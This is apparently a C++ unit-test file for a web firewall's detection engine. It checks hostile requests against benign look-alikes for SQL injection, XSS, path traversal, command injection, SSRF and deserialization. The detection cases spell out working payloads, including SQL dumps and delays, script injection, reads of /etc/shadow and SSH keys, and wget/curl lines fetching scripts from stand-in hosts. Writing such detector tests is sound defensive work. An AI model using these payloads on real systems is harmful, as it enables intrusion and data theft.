// Detector tests through the public Engine API: attacks written for these tests (true positives)
// and hard benign traffic (false positives) per attack class.
#include <gtest/gtest.h>

#include <chrono>
#include <string>
#include <utility>
#include <vector>

#include "bulwark/detect/engine.h"
#include "registered_rules.h"

namespace bulwark::detect {
namespace {

struct Req {
  std::string method = "GET";
  std::string target = "/";
  std::vector<std::pair<std::string, std::string>> headers;
  std::string body;
  uint8_t paranoia = 1;
};

class DetectorsTest : public ::testing::Test {
protected:
  static void SetUpTestSuite() {
    auto e = Engine::create(EngineConfig{});
    ASSERT_TRUE(e) << e.error().describe();
    engine_ = *e;
  }
  static void TearDownTestSuite() { engine_.reset(); }

  static Verdict inspect(const Req& r) {
    std::vector<Header> hs;
    hs.push_back({"Host", "app.example.com"});
    hs.push_back({"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101"});
    for (const auto& [n, v] : r.headers) {
      hs.push_back({n, v});
    }
    RequestView v;
    v.method = r.method;
    v.target = r.target;
    v.headers = hs;
    v.body = r.body;
    v.paranoiaLevel = r.paranoia;
    return registered(engine_->inspect(v));
  }

  static Req query(std::string q) { return Req{"GET", "/search?q=" + std::move(q), {}, ""}; }
  static Req form(std::string body) {
    return Req{"POST",
               "/submit",
               {{"Content-Type", "application/x-www-form-urlencoded"}},
               std::move(body)};
  }
  static Req json(std::string body) {
    return Req{"POST", "/api", {{"Content-Type", "application/json"}}, std::move(body)};
  }
  static Req atPl2(Req r) {
    r.paranoia = 2;
    return r;
  }
  static Req header(std::string name, std::string value) {
    return Req{"GET", "/", {{std::move(name), std::move(value)}}, ""};
  }

  static ::testing::AssertionResult detects(const Req& r, AttackClass cls) {
    const Verdict v = inspect(r);
    for (const auto& f : v.findings) {
      if (f.cls == cls) {
        return ::testing::AssertionSuccess();
      }
    }
    auto res = ::testing::AssertionFailure() << r.method << " " << r.target << " " << r.body
                                             << ": no " << className(cls) << " finding";
    for (const auto& f : v.findings) {
      res << " [" << className(f.cls) << " " << f.ruleId << " " << f.part << "]";
    }
    return res;
  }

  static ::testing::AssertionResult clean(const Req& r) {
    const Verdict v = inspect(r);
    if (!v.attack()) {
      return ::testing::AssertionSuccess();
    }
    auto res = ::testing::AssertionFailure()
               << r.method << " " << r.target << " " << r.body << ": flagged";
    for (const auto& f : v.findings) {
      res << " [" << className(f.cls) << " " << f.ruleId << " " << f.part << " = " << f.value
          << "]";
    }
    return res;
  }

  static inline EnginePtr engine_;
};

TEST_F(DetectorsTest, ClassNames) {
  EXPECT_EQ(className(AttackClass::Sqli), "sqli");
  EXPECT_EQ(className(AttackClass::PathTraversal), "path-traversal");
  EXPECT_EQ(className(AttackClass::CodeInjection), "code-injection");
  EXPECT_EQ(className(AttackClass::Scanner), "scanner");
}

TEST_F(DetectorsTest, SqliTruePositives) {
  for (const char* q :
       {"x%27%20OR%20%27z%27%3D%27z", "7%20or%202%3E1--", "9%27%29%20or%20(1=1)%23",
        "5%20UNION%20ALL%20SELECT%20username,password%20FROM%20accounts",
        "abc%22;DROP%20TABLE%20orders;--", "1%20AND%20SLEEP(3)",
        "1%27%20and%20extractvalue(1,concat(0x7e,version()))--%20", "admin%27--",
        "1/*!50000UnIoN*/+/*!50000SeLeCt*/+2,3", "x%27;WAITFOR%20DELAY%20%270:0:9%27--",
        "1%20having%201=1", "%27%20or%20username%20like%20%27%25adm", "1%27+OR+%271%27%3D%271"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  EXPECT_TRUE(
      detects(json(R"({"id":"3' union select null,table_name from information_schema.tables-- "})"),
              AttackClass::Sqli));
  EXPECT_TRUE(detects(header("Referer", "https://x.test/?a=1' or '1'='1"), AttackClass::Sqli));
  EXPECT_TRUE(detects(header("Referer", "https://x.test/?a=1'+or+'1'='1"), AttackClass::Sqli));
}

TEST_F(DetectorsTest, XmlTextIsInspectedAsTheParserReturnsIt) {
  auto xml = [](std::string body) {
    return Req{"POST", "/api/import", {{"Content-Type", "application/xml"}}, std::move(body)};
  };
  // A leading line break is part of the text; CDATA and comments do not split keywords.
  EXPECT_TRUE(detects(xml("<order><note>\r\n\r\nSet-Cookie:crlf=injection</note></order>"),
                      AttackClass::Crlf));
  EXPECT_TRUE(detects(xml("<o><n>&lt;scr<![CDATA[ipt]]>&gt;alert(1)&lt;/script&gt;</n></o>"),
                      AttackClass::Xss));
  // Benign twins: pretty-printed layout and a note with a line break.
  EXPECT_TRUE(clean(xml("<order>\n  <note>\n    Leave at the door\n  </note>\n</order>")));
}

TEST_F(DetectorsTest, RefererQueryPlusIsASpace) {
  // The page's own search form: "5' 11\" in cm" written with '+' for spaces.
  EXPECT_TRUE(clean(header("Referer", "https://shop.example.com/search?q=5%27+11%22+in+cm")));
  EXPECT_TRUE(detects(header("Referer", "https://shop.example.com/search?q=5%27+or+1=1--"),
                      AttackClass::Sqli));
}

TEST_F(DetectorsTest, SqlComparisonAfterABreakoutMustParse) {
  // An inch mark followed by arithmetic and then prose; a symbol quoted in an error message.
  EXPECT_TRUE(clean(json(R"({"body": "Size chart is off: I'm 5'9\" / 160lbs and the M was tight. Order one size up!"})")));
  EXPECT_TRUE(clean(json(R"({"value": "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON"})")));
  // The comparisons an attacker completes still count.
  for (const char* q : {"1%27%3D%271", "x%27%7C%7C(select%201)%7C%7C%27", "%27%3D%27",
                        "5%22%20/%20160%20--%20", "x%27%20%3C%20%27a"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
}

TEST_F(DetectorsTest, ProbesThatOrdinaryValuesShareAtPl2) {
  // A link with an empty query inside a webhook document is not a remote inclusion.
  EXPECT_TRUE(clean(atPl2(json(R"({"owner": {"avatar_url": "http://alambic.github.com/avatars/u/340?"}})"))));
  EXPECT_TRUE(detects(atPl2(query("http%3A%2F%2Fevil.tld%2Fshell.txt%3F")), AttackClass::Ssrf));
  // An ad-tech or CI macro left unexpanded; a lower-case expansion is the shell probe.
  EXPECT_TRUE(clean(atPl2(query("${US_PRIVACY}"))));
  EXPECT_TRUE(clean(atPl2(json(R"({"namespaceFormat": "${SOURCE_NAMESPACE}"})"))));
  EXPECT_TRUE(detects(atPl2(query("${cmd}")), AttackClass::Rce));
  // Control bytes inside base64-decoded data (a protobuf beacon) are the data's own bytes;
  // a percent-encoded control in the query still counts.
  EXPECT_TRUE(clean(atPl2(query("CAESDk9wZXJhdGlvbkVycm9yGmBzaGFyZWRTdG9yYWdlLndvcmtsZXQuYWRkTW9kdWxlIGlzIGRpc2FibGVkIGJlY2F1c2Ugc2hhcmVkU3RvcmFnZSBpcyBkaXNhYmxlZCBmb3IgdGhpcyBwYWdlIGxvYWQ%3D"))));
  EXPECT_TRUE(detects(atPl2(query("test%01")), AttackClass::Protocol));
}

TEST_F(DetectorsTest, ConfiguredServicesAndOverDecodedControlsAtPl2) {
  // A deployment's own service on a private address with an unprivileged port, in a document.
  EXPECT_TRUE(clean(atPl2(json(R"({"service_settings": {"url": "http://localhost:8321/v1/embeddings"}})"))));
  EXPECT_TRUE(clean(atPl2(json(R"({"iss": "http://127.0.0.1:8080"})"))));
  // Service ports, no port, and parameters stay findings.
  EXPECT_TRUE(detects(atPl2(json(R"({"url": "http://127.0.0.1:6379/"})")), AttackClass::Ssrf));
  EXPECT_TRUE(detects(atPl2(json(R"({"url": "http://localhost/admin"})")), AttackClass::Ssrf));
  EXPECT_TRUE(detects(atPl2(query("http%3A%2F%2Flocalhost%3A8321%2Fv1")), AttackClass::Ssrf));
  // A control byte that only a third percent-decoding forms; one or two rounds still count.
  EXPECT_TRUE(clean(atPl2(Req{"GET", "/", {{"Cookie", "s=svars%4063%3A%250%2531%3Ahome"}}, ""})));
  EXPECT_TRUE(detects(atPl2(Req{"GET", "/", {{"Cookie", "s=a%2501b"}}, ""}), AttackClass::Protocol));
}

TEST_F(DetectorsTest, ShortUnpaddedBase64IsDecoded) {
  // "|id|" and "`id`" as unpadded base64 in a parameter, a header and a JSON value.
  EXPECT_TRUE(detects(query("fGlkfA"), AttackClass::Rce));
  EXPECT_TRUE(detects(header("X-Request-Context", "YGlkYA"), AttackClass::Rce));
  EXPECT_TRUE(detects(json(R"({"note": "fGlkfA"})"), AttackClass::Rce));
  // Short ids and words decode to letters or binary: nothing to inspect.
  for (const char* v : {"aB3dE9", "Kx7pQ2z", "TG9nb3M", "abcDEF1"}) {
    EXPECT_TRUE(clean(query(v))) << v;
  }
}

TEST_F(DetectorsTest, PixelsAndSavedQueriesAtPl2) {
  // A tracking pixel with its own query; a saved report's SQL in a JSON document.
  EXPECT_TRUE(clean(atPl2(query("http%3A%2F%2Fbeacon.example.net%2Fdata.gif%3F_kdpid%3D2111c0af"))));
  EXPECT_TRUE(clean(atPl2(json(R"({"data": {"object": {"sql": "SELECT count(*) from charges"}}})"))));
  // The inclusion shapes and a statement in a parameter still count at PL2.
  EXPECT_TRUE(detects(atPl2(query("http%3A%2F%2Fevil.example%2Fx.gif%3F")), AttackClass::Ssrf));
  EXPECT_TRUE(detects(atPl2(query("http%3A%2F%2Fevil.example%2Fshell.txt%3F")), AttackClass::Ssrf));
  EXPECT_TRUE(detects(atPl2(query("SELECT%20count(*)%20from%20charges")), AttackClass::Sqli));
}

TEST_F(DetectorsTest, FilterLanguageQueryIsNotAnEncodedParameter) {
  // A whole JQL query (spaces around '='): the application's own filter language.
  EXPECT_TRUE(clean(json(R"({"queryStrings": ["issuetype = Bug AND assignee in (mia) AND reporter in (alana) order by lastViewed DESC"]})")));
  // A parameter that reached us whole (its '=' encoded): the value after it is inspected.
  EXPECT_TRUE(detects(query("id%3D1%20AND%20user%20in%20(select%20name%20from%20t)"), AttackClass::Sqli));
  EXPECT_TRUE(detects(query("id%3Dx%20or%201%3D1--"), AttackClass::Sqli));
}

TEST_F(DetectorsTest, SqlPostfixClausesAfterABreakout) {
  // COLLATE and NOTNULL after a closed string, ended by a comment: the statement continues.
  for (const char* q : {"user%27collate+nocase--", "user%27collate%60utf8mb4_bin%60--",
                        "user%27collate+%22utf8mb4_general_ci%22--",
                        "user%27collate+U%26%22%241%23B%22--", "%27+notnull+--",
                        "x%27+isnull+or+1--"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  // Benign twins: the words in prose, after an apostrophe, with nothing that ends a statement.
  for (const char* q : {"O%27Brien+collate+the+reports", "what+does+collate+nocase+mean",
                        "it%27s+notnull", "sort+by+name+collate+nocase"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, SqlSetOperationsStackedRowsAndDelays) {
  // EXCEPT / INTERSECT with a select list or a VALUES row, like UNION; "select.1" is a keyword
  // and a number.
  for (const char* q : {"except%20%09select.1%2C2", "except%20values(1%2C2)",
                        "1%20intersect%20select%20null%2C%27a%27--", "1%20union%20select.1%2C2",
                        "x%27%20union%20values(1%2C%27a%27)--"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  // REPLACE / INSERT without INTO as a stacked statement.
  for (const char* q :
       {"%3BRePLAcE%2F*x*%2Ft%2F*x*%2F(id%2C%20name)%20VALUES%20(1%2C%20%27a%27)%3B",
        "1%3Breplace%20into%20users%20select%201%2C2--", "1%3Binsert%20users%20values%20(1%2C2)--"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  // WAITFOR DELAY after an operand ends the statement: T-SQL needs no ';'. In a Referer too.
  EXPECT_TRUE(detects(query("1%20waitfor%20delay%20%270%3A0%3A5%27--"), AttackClass::Sqli));
  EXPECT_TRUE(inspect(header("Referer",
                             "https://www.example.com/search?q=t-1 waitfor delay '0:0:15' --"))
                  .attack());
  // A condition appended to the application's operand and closed by a comment.
  for (const char* q : {"or%20true--", "and%201%3D1%23", "OR%201%23"}) {
    EXPECT_TRUE(inspect(query(q)).attack()) << q;
  }
  // Benign twins: the same words in prose and lists.
  for (const char* q : {"all%20except%20select%20few", "everything%20except%20values%20(see%20below)",
                        "intersect%20select%20the%20area", "%3B%20replace%20the%20filter%20values",
                        "insert%20coin%20values", "please%20waitfor%20delay%20notice",
                        "or%20that%20--%20note", "and%202%20more%20--%20x",
                        "waitfor%20the%20delay", "or%20else%20--%20x"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  // "or true" without the comment is a fragment: a probe (PL2).
  EXPECT_TRUE(clean(query("or%20true")));
}

TEST_F(DetectorsTest, SqlCaseExpressionsAndCmdVariables) {
  // CASE WHEN ... THEN ... END is a value of the SQL grammar.
  for (const char* q : {"1%20and%20case%20when%201%3D1%20then%201%20else%200%20end",
                        "%27%20and%20case%20when%20(1%3D1)%20then%20sleep(5)%20else%200%20end--"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  // cmd.exe %NAME% expansion is an argument: "& echo %USERNAME%".
  EXPECT_TRUE(detects(query("%26%20echo%20%25USERNAME%25"), AttackClass::Rce));
  // Benign twins.
  for (const char* q : {"in%20case%20when%20it%20rains%20then%20we%20end%20up%20inside",
                        "1%20and%20case%20when%20x", "%26%20echo%2050%25%20of%20100%25",
                        "the%20price%20is%205%25%20off%20%26%2010%25"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, SessionFixationNeedsAnotherSite) {
  // A framework's session cookie name as a parameter, sent from another site.
  EXPECT_TRUE(detects(Req{"GET", "/login?PHPSESSID=attackerchosen1", {{"Referer", "https://evil.test/x"}}, ""},
                      AttackClass::Protocol));
  EXPECT_TRUE(detects(Req{"GET", "/auth?__secure-next-auth.session-token=t0k", {{"Referer", "http://evil.test/"}}, ""},
                      AttackClass::Protocol));
  EXPECT_TRUE(detects(Req{"POST", "/login", {{"Content-Type", "application/json"}, {"Referer", "http://evil.test/"}},
                          R"({"jsessionid":"abc"})"},
                      AttackClass::Protocol));
  EXPECT_TRUE(detects(Req{"GET", "/app?ASPSESSIONIDQADBCTSA=GKFPMNAB", {{"Referer", "http://evil.test/"}}, ""},
                      AttackClass::Protocol));
  // Benign twins: the same site (or a subdomain of it), a name that only contains the word,
  // a generic id that analytics beacons also send (PL2 only), no Referer (PL2 only).
  EXPECT_TRUE(clean(Req{"GET", "/login?jsessionid=abc", {{"Referer", "https://app.example.com/home"}}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/login?jsessionid=abc", {{"Referer", "https://example.com/"}}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/b?my_jsessionid_hint=1", {{"Referer", "https://evil.test/"}}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/b?sessionid=42&e=view", {{"Referer", "https://news.test/"}}, ""}));
  EXPECT_FALSE(inspect(atPl2(Req{"GET", "/b?sessionid=42&e=view", {{"Referer", "https://news.test/"}}, ""})).attack());
  EXPECT_TRUE(clean(Req{"GET", "/login?jsessionid=abc", {}, ""}));
  EXPECT_TRUE(inspect(atPl2(Req{"GET", "/login?jsessionid=abc", {}, ""})).attack());
}

TEST_F(DetectorsTest, CmdIfStatements) {
  for (const char* q : {"IF+%2FI+item1%3D%3Ditem2+CMD", "IF+2+GEQ+15+echo+bigger",
                        "if+not+%282+equ+2%29+echo+hey", "IF+CMDEXTVERSION+1+GOTO+start",
                        "if+%28AA%29+%3D%3D+%28AA%29+echo+same",
                        "IF+%5B%251%5D+EQU+%5B%5D+ECHO+Value+Missing"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
  }
  // Benign twins: code of other languages and prose.
  for (const char* q : {"if+a+%3D%3D+b%3A+print%28a%29", "if+%28a+%3D%3D+b%29+return+x",
                        "if+you+set+it+equal+to+two", "if+x%3D%3Dy+then+stop"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, ShortPaddedBase64IsDecoded) {
  // An LDAP filter breakout of four bytes, base64 with its padding, in an XML and a JSON value.
  EXPECT_TRUE(detects(Req{"POST", "/ws", {{"Content-Type", "text/xml"}}, "<a><id>KikoJg==</id></a>"},
                      AttackClass::Ldapi));
  EXPECT_TRUE(detects(json(R"({"q":"KikoJg=="})"), AttackClass::Ldapi));
  // Benign twins: short padded tokens that decode to words or bytes.
  EXPECT_TRUE(clean(json(R"({"q":"dGVzdA==","r":"YWRtaW4=","s":"AbCd+Q=="})")));
  // Unpadded, six or seven characters: decoded when the text holds metacharacters.
  EXPECT_TRUE(detects(query("KikoJg"), AttackClass::Ldapi));
  EXPECT_TRUE(detects(query("YGlkYA"), AttackClass::Rce));
  EXPECT_TRUE(detects(Req{"GET", "/", {{"Cookie", "t=fGlkfA"}}, ""}, AttackClass::Rce));
  for (const char* q : {"iPhone", "QWRtaW4", "McDonald", "aBcDeF", "Zm9vYg"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

// A diagnostics page's address with a command joined to it; a PHP string broken out of to
// call a function between two concatenations.
TEST_F(DetectorsTest, AddressWithAJoinedCommandAndConcatenatedCall) {
  for (const char* q : {"127.0.0.1%7Cecho%20oJYD00X6Ftx", "8.8.8.8%3B%20id", "10.0.0.1%20%26%26%20curl%20http%3A%2F%2Fx.example%2Fa",
                        "192.168.1.1%60id%60", "1.1.1.1%24(whoami)"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
  }
  for (const char* q : {"10.0.0.1%3B10.0.0.2", "127.0.0.1%7CHome", "8.8.8.8%20%7C%208.8.4.4", "1.2.3.4%3Bport%3D80"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_TRUE(detects(query("test%22.system(id).%22"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(query("x%27.phpinfo().%27"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(query("system(%5C%27ver%5C%27)"), AttackClass::CodeInjection));
  EXPECT_TRUE(clean(query("the+%22sum()%22+and+%22avg()%22+functions")));
}

// .NET deserialization gadgets in the documents a Json.NET, JavaScriptSerializer or XAML
// reader turns into objects, and a BinaryFormatter stream in base64.
TEST_F(DetectorsTest, DotNetDeserializationGadgets) {
  EXPECT_TRUE(detects(json(R"({"storeID": {"__type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start"}})"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(detects(json(R"({"$type": "System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework]]"})"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(detects(query("state%3DAAEAAAD%2F%2F%2F%2F%2FAQAAAAAAAAAMAgAAAF"), AttackClass::CodeInjection));
  EXPECT_TRUE(clean(json(R"({"__type": "Customer:#Shop.Models", "name": "Ann"})")));
  EXPECT_TRUE(detects(json(R"({"username": "admin", "password": {"$type": "string"}})"), AttackClass::Nosqli));
}

// Server-side code in the shapes exploit requests carry: a wiki's script macro, Groovy running
// a string as a command, a PHP function name that a callback parameter calls, a serialized
// PHP object opened by a quote, a download command as the whole value.
TEST_F(DetectorsTest, ServerSideCodeShapes) {
  EXPECT_TRUE(detects(query("%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln(1)%7B%7B%2Fgroovy%7D%7D"),
                      AttackClass::Ssti));
  EXPECT_TRUE(detects(query("%7B%7Bpython%7D%7Dprint(7*7)%7B%7B%2Fpython%7D%7D"), AttackClass::Ssti));
  EXPECT_TRUE(clean(query("%7B%7Bpod%7D%7D+-+%7B%7Bcontainer%7D%7D")));
  EXPECT_TRUE(clean(query("velocity+script+groovy")));
  EXPECT_TRUE(clean(form("raw=%23+kool%0A%0ARun+a+script%3A%0A%0A%60kool+run+%7B%7Bscript%7D%7D%60%0A")));
  EXPECT_TRUE(detects(form("groovyProgram=throw+new+Exception(%27id%27.execute().text)%3B"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(query("phpinfo"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(form("_method=__construct&filter%5B%5D=phpinfo&method=get"), AttackClass::CodeInjection));
  EXPECT_TRUE(clean(query("phpinfo+output+explained")));
  EXPECT_TRUE(clean(query("system")));
  EXPECT_TRUE(detects(query("%22O%3A13%3A%22WP_HTML_Token%22%3A2%3A%7Bs%3A13%3A%22bookmark_name%22%3Bs%3A1%3A%22x%22%3B%7D"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(detects(form("mac=wget+http%3A%2F%2F198.51.100.7%2Fa.sh&wifiEn=true"), AttackClass::Rce));
  EXPECT_TRUE(detects(form("x=curl+-s+-o+%2Ftmp%2Fa+https%3A%2F%2F198.51.100.7%2Fa"), AttackClass::Rce));
  EXPECT_TRUE(clean(json(R"({"description": "curl https://api.example.com/v1/users -H \"Authorization: Bearer x\""})")));
  EXPECT_TRUE(clean(query("how+to+use+wget+with+a+proxy")));
}

// A UNC path as the request path (a Windows server or a rewrite to a file opens the share:
// NTLM leak, SSRF) and a file manager's hash holding a climbing path in base64.
TEST_F(DetectorsTest, UncPathAndFileManagerHash) {
  EXPECT_TRUE(detects(Req{"GET", "/%5c%5cx7.oast.example%5cC$%5cbb", {}, ""}, AttackClass::Ssrf));
  EXPECT_TRUE(detects(Req{"GET", "/\\\\files.example\\share/a", {}, ""}, AttackClass::Ssrf));
  EXPECT_TRUE(clean(Req{"GET", "/docs/a%5Cb", {}, ""}));
  EXPECT_TRUE(detects(query("x&cmd=file&target=l1_Li8vLi4vLy4uLy8uLi8vLi4vLy4uLy8uLi9ldGMvcGFzc3dk"),
                      AttackClass::PathTraversal));
  EXPECT_TRUE(clean(query("x&cmd=open&target=l1_dXBsb2Fkcy9waG90b3M")));
  EXPECT_TRUE(clean(query("user_1234567890abcdef")));
}

TEST_F(DetectorsTest, NodeModuleLoaderReflection) {
  for (const char* q : {"%23%7Brequire.main.constructor._load(%27fs%27).readdirSync(%27.%27)%7D",
                        "module.constructor._load(%27child_process%27)",
                        "x%3Dprocess.mainModule.require(%27fs%27)",
                        // bracket access is the same property: process['mainModule'], global["process"]
                        "process%5B%27mainModule%27%5D.require(%27fs%27)", "process%5BmainModule",
                        "global%5B%22process%22%5D%5B%22binding%22%5D(%22spawn_sync%22)"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::CodeInjection)) << q;
  }
  // Benign twins: the words in prose and an ordinary config key.
  for (const char* q : {"the+main+constructor+of+the+process", "process%5Bstep%5D%3D2",
                        "require+main+file"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, SsrfNumericHostWithoutSlashes) {
  for (const char* u : {"http%3A2852039166", "http%3A%2F0xA9FEA9FE", "http%3A0251.0376.0251.0376",
                        "rtmp%3A%2F%2F017700000001", "http%3A127.0.0.1"}) {
    EXPECT_TRUE(detects(Req{"GET", std::string("/fetch?url=") + u, {}, ""}, AttackClass::Ssrf)) << u;
  }
  for (const char* u : {"http%3A%2F%2Fexample.com%2F2852039166", "urn%3Aisbn%3A9780306406157",
                        "tel%3A0123456789"}) {
    EXPECT_TRUE(clean(Req{"GET", std::string("/fetch?url=") + u, {}, ""})) << u;
  }
}

TEST_F(DetectorsTest, SqliFalsePositives) {
  for (const char* q :
       {"Dunkin%27+Donuts", "select+a+gift+for+mom", "union+square+park+hotels",
        "drop+off+point+near+me", "1+or+2+bedrooms", "rock+%27n%27+roll", "where+is+my+order%3F",
        "it%27s+5%27o+clock", "update+on+delivery", "order+by+date", "cats+and+dogs",
        "tom+%26+jerry", "C%23+or+Java%3F", "O%27Connor+%26+Sons"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_TRUE(
      clean(json(R"({"comment":"We use `SELECT id FROM t WHERE x = ?` with bind params."})")));
  EXPECT_TRUE(clean(form("password=Tr0ub4dor%26%273%21&user=sam")));
}

TEST_F(DetectorsTest, XssTruePositives) {
  for (const char* q :
       {"%3Cscript%3Efetch(%27//e.test%27)%3C/script%3E", "%3Cimg%20src=x%20onerror=alert(7)%3E",
        "%3Csvg/onload=confirm%601%60%3E", "javascript:alert(document.domain)",
        "%22%3E%3Ciframe%20src=//e.test%3E", "%26lt;script%26gt;x()%26lt;/script%26gt;",
        "%22%20onfocus=%22alert(2)%22%20autofocus%20x=%22",
        "%3Ca%20href=%22jav%09ascript:prompt(3)%22%3Eclick%3C/a%3E",
        "%27;alert(String.fromCharCode(88))//",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Xss)) << q;
  }
  EXPECT_TRUE(detects(json(R"({"bio":"<body onload=steal()>"})"), AttackClass::Xss));
}

TEST_F(DetectorsTest, XssFalsePositives) {
  for (const char* q : {"3+%3C+5+and+7+%3E+2", "I+%3C3+cats", "a%3Cb+%26%26+b%3Cc",
                        "%3Cb%3Ebold%3C/b%3E", "JavaScript:+The+Good+Parts",
                        "online+onboarding+on+monday", "%3CSearchBox/%3E+component"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_TRUE(clean(json(R"({"snippet":"Use <kbd>Ctrl</kbd> + <kbd>S</kbd> to save"})")));
}

TEST_F(DetectorsTest, PathTraversalTruePositives) {
  EXPECT_TRUE(detects(Req{"GET", "/etc/passwd", {}, ""}, AttackClass::PathTraversal));
  EXPECT_TRUE(
      detects(Req{"GET", "/static/..%2f..%2f..%2fetc/shadow", {}, ""}, AttackClass::PathTraversal));
  EXPECT_TRUE(detects(Req{"GET", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/win.ini", {}, ""},
                      AttackClass::PathTraversal));
  for (const char* q :
       {"..%5C..%5C..%5Cwindows%5Csystem32%5Cconfig%5Csam", "%252e%252e%252fetc%252fhosts",
        "/proc/self/environ", "....//....//etc/group", "%2e%2e/%2e%2e/home/u/.ssh/id_rsa",
        "..%u2215..%u2215boot.ini", "file:///etc/issue"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::PathTraversal)) << q;
  }
}

TEST_F(DetectorsTest, PathTraversalFalsePositives) {
  EXPECT_TRUE(clean(Req{"GET", "/docs/v1.2/getting-started.html", {}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/assets/app.3f2a1c.js", {}, ""}));
  EXPECT_TRUE(clean(query("see+the+docs...+and+more")));
  EXPECT_TRUE(clean(query("etc.+and+so+on")));
  EXPECT_TRUE(clean(json(R"({"path":"/users/42/avatar.png","next":"/account/orders"})")));
}

TEST_F(DetectorsTest, RceTruePositives) {
  for (const char* q :
       {"8.8.8.8%3Bcat%20/etc/hosts", "x%7C%7Cwhoami", "%60id%60", "a%24(uname%20-a)",
        "127.0.0.1%26%26ping%20-c%203%20evil.test", "%3Bc%27a%27t%24%7BIFS%7D/etc/group",
        "x%0Awget%20http://e.test/s.sh", "%7C%20powershell%20-nop%20-c%20iex",
        "()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id", "%3B/usr/bin/id"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
  }
}

TEST_F(DetectorsTest, RceFalsePositives) {
  for (const char* q :
       {"salt%3B+pepper%3B+cat+food", "ping+pong+table", "Tom+%26+Jerry+-+the+movie", "cat+videos",
        "fish+%7C+chips", "sleep+better+tips", "R%26D+budget", "find+my+phone"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_TRUE(clean(json(
      R"({"body":"Steps:\n1. clone\n2. run make\n3. curl -s http://localhost:8080/health\n4. done"})")));
  // Code in posts: a Python/JS comparison is not a cmd.exe `if a==b command`.
  EXPECT_TRUE(clean(json(R"({"snippet":"if x == y: return total"})")));
  EXPECT_TRUE(clean(query("if+count+%3D%3D+0+then+stop")));
  EXPECT_TRUE(detects(query("%26+if+%22%25OS%25%22%3D%3D%22Windows_NT%22+whoami"), AttackClass::Rce));
}

// Probes: the half-written expressions sent to find out whether a value reaches an
// interpreter (an unclosed call, a bare operator, a quote break, a dangling boolean).
TEST_F(DetectorsTest, ProbeTruePositives) {
  const std::pair<const char*, AttackClass> cases[] = {
      {"substring%28", AttackClass::Sqli},
      {"pay%3Dascii%5D%3D%28", AttackClass::Sqli},
      {"%3C%3D%3E", AttackClass::Sqli},
      {"RLIKE", AttackClass::Sqli},
      {"7%3D7", AttackClass::Sqli},
      {"%27%20union%20x", AttackClass::Sqli},
      {"%5C%27%20or%201", AttackClass::Sqli},
      {"%2Fab9%20or%20", AttackClass::Sqli},
      {"from%20accounts%20where%20id%3D1", AttackClass::Sqli},
      {"x%20case%20when%20a%20then%20b", AttackClass::Sqli},
      {"values%28%27x%27%2C%201%29", AttackClass::Sqli},
      {"18446744073709551616", AttackClass::Sqli},
      {"if%20a%3D%3Db%20calc", AttackClass::Rce},
      {"%7E%2B", AttackClass::Rce},
      {"%24%7Bpath%7D", AttackClass::Rce},
      {"irb%3C%3C%3C1", AttackClass::Rce},
      {"visudo%20-c", AttackClass::Rce},
      {"env%20--help", AttackClass::Rce},
      {"cd%20%2Ftmp%3Bls%20-la", AttackClass::Rce},
      {"pip%20install%20evilpkg", AttackClass::Rce},
      {"python3.12%20-c%20x", AttackClass::Rce},
      {"2%7C", AttackClass::Rce},
      {"intval%28%29", AttackClass::CodeInjection},
      {"memory_limit%3D1G", AttackClass::CodeInjection},
      {"%5Bphp%5Dsystem", AttackClass::CodeInjection},
      {"data%3Atext%2Fhtml%2Cx", AttackClass::CodeInjection},
      {"mb_ereg_replace%20%28", AttackClass::CodeInjection},
      {"--%3E", AttackClass::Xss},
      {"setTimeout%28x%29", AttackClass::Xss},
  };
  // Probes count from paranoia level 2.
  for (const auto& [q, cls] : cases) {
    Req r = query(q);
    r.paranoia = 2;
    EXPECT_TRUE(detects(r, cls)) << q;
  }
  // an encoded separator hides the value inside the name: "p%3D%3Bdrop" is p=;drop
